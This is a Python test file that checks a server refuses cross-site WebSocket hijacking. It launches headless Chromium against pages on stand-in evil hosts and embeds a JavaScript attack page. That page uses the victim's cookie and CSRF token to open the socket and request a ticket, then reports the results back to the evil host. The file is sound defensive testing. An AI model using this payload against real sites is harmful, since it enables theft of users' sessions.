# SPDX-License-Identifier: Apache-2.0
"""Cross-site hijacking in a real browser: Chromium goes to an evil page while it holds the victim's cookie.

The cookie may go everywhere (SameSite=None), the page even has a good CSRF token; only where it comes from is wrong. The
same page at a listed address is the proof that the browser did bring the cookie along."""
import http.server
import json
import queue
import shutil
import ssl
import subprocess
import threading
import urllib.parse

import pytest

import certificates
from gateward_server import GatewardServer
from internal_api import InternalApi, internal_config

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
CHAT, EVIL, NEIGHBOUR, FRIEND = "chat.example.com", "evil.test", "evil.example.com", "friend.test"

PAGE = """<!doctype html><script>
const url = %s, times = %d;
const attempt = () => new Promise(done => {
  const ws = new WebSocket(url);
  ws.onmessage = e => { done(e.data); ws.close(); };
  ws.onerror = () => done("refused");
  ws.onclose = () => done("closed");
});
(async () => {
  const got = [];
  for (let i = 0; i < times; i++) got.push(await attempt());
  const ticket = await fetch(url.replace("wss:", "https:").replace("/ws", "/ticket"),
    {method: "POST", credentials: "include"}).then(r => r.text(), () => "refused");
  await fetch("/report", {method: "POST", body: JSON.stringify({at: location.hostname, got, ticket})});
})();
</script>"""


class Pages:
    """Serves all names of the story over https; what pages report comes out of `reports`."""

    def __init__(self, directory, authority):
        self.reports, self.answers, owner = queue.Queue(), {}, self
        cert, key = authority.issue(directory, "pages", names=(CHAT, EVIL, NEIGHBOUR, FRIEND), addresses=())

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                status, headers, body = owner.answers.get(urllib.parse.urlsplit(self.path).path, (404, {}, ""))
                self.answer(status, headers, body.encode())

            def do_POST(self):
                owner.reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.answer(200, {}, b"")

            def answer(self, status, headers, body):
                self.send_response(status)
                for name, value in {"Content-Type": "text/html", "Content-Length": str(len(body)), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads = True

            def handle_error(self, *_):
                pass    # browsers open connections that they do not use

        self.http = Server(("127.0.0.1", 0), Handler)
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        context.load_cert_chain(cert, key)
        self.http.socket = context.wrap_socket(self.http.socket, server_side=True, do_handshake_on_connect=False)
        self.port = self.http.server_port
        self.thread = threading.Thread(target=self.http.serve_forever, args=(0.05,))

    def url(self, host, path):
        return "https://%s:%d%s" % (host, self.port, path)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.http.shutdown()
        self.thread.join()
        self.http.server_close()


def visit(directory, url, reports, timeout=60):
    """What the page at the end of the way reports. Cookies of third parties are let through, as browsers did for decades."""
    (directory / "Default").mkdir(parents=True)
    (directory / "Default" / "Preferences").write_text(json.dumps(
        {"profile": {"cookie_controls_mode": 0, "block_third_party_cookies": False}}))
    browser = subprocess.Popen(
        [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
         "--ignore-certificate-errors", "--host-resolver-rules=MAP * 127.0.0.1", "--disable-background-networking",
         "--user-data-dir=" + str(directory), url],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        return reports.get(timeout=timeout)
    finally:
        browser.terminate()
        try:
            browser.wait(15)
        except subprocess.TimeoutExpired:
            browser.kill()
            browser.wait()


@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")
def test_an_evil_page_gets_nowhere_with_the_cookie_that_the_browser_brings(tmp_path):
    authority = certificates.Authority("pages")
    with Pages(tmp_path, authority) as pages:
        config = internal_config(tmp_path, 1, scopes={"ops": ["sessions", "tickets"]}, auth={"sessions": {"store": "memory"}},
                                 origins=["https://%s:%d" % (FRIEND, pages.port)])
        config["listen"] = [{"address": "127.0.0.1:0", "tls": {"cert": "server.crt", "key": "server.key"}}]
        server = GatewardServer(tmp_path, config)
        server.authority.issue(tmp_path, names=(CHAT,))
        with server:
            api = InternalApi(server)
            of = api.post("/api/sessions", {"user": "victim", "roles": ["user"]})[1]["session"]
            cookie = "__Host-session=%s; Path=/; Secure; HttpOnly; SameSite=None" % of
            for host, times in ((EVIL, 5), (NEIGHBOUR, 2), (FRIEND, 1)):
                status, answer = api.post("/api/csrf", {"session": of, "origin": "https://%s:%d" % (FRIEND, pages.port)})
                assert status == 200, answer
                url = "wss://%s:%d/ws?csrf=%s" % (CHAT, server.port, answer["csrf"])
                pages.answers["/page"] = (200, {}, PAGE % (json.dumps(url), times))
                pages.answers["/login"] = (302, {"Set-Cookie": cookie, "Location": pages.url(host, "/page")}, "")
                report = visit(tmp_path / host, pages.url(CHAT, "/login"), pages.reports)
                assert report["at"] == host
                if host != FRIEND:
                    assert report["got"] == ["refused"] * times and report["ticket"] == "refused"
                    server.wait_for_event("origin_refused", count=times, origin="https://%s:%d" % (host, pages.port), path="/ws")
                    assert not server.events("auth_ok")
                else:       # the same browser, cookie and page: from here it may
                    assert json.loads(report["got"][0])["user"] == "victim"
